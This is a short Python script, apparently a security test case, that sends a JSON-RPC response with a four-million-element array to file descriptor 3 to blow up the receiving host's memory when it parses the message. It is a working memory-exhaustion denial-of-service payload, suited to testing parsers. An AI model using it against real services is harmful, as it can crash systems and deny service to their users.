# attack: send an array of so many small values that the parsed form takes gigabytes
# success: the host's memory grows by much more than the message
import os


def go(input):
    message = b'{"jsonrpc":"2.0","id":2,"result":[' + b"0," * 4_000_000 + b"0]}\n"
    while message:
        message = message[os.write(3, message):]
    return "sent"
